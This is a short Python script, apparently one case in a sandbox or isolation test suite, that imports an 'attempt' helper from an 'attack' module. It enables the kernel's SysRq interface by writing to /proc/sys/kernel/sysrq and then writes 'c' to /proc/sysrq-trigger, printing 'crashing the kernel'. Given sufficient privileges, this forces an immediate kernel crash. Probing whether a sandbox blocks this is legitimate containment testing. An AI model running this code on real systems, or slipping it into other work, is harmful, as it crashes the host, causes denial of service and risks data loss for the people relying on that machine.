from attack import attempt

attempt("sysrq on", lambda: open("/proc/sys/kernel/sysrq", "w").write("1"))
print("crashing the kernel", flush=True)
attempt("sysrq c", lambda: open("/proc/sysrq-trigger", "w").write("c"))
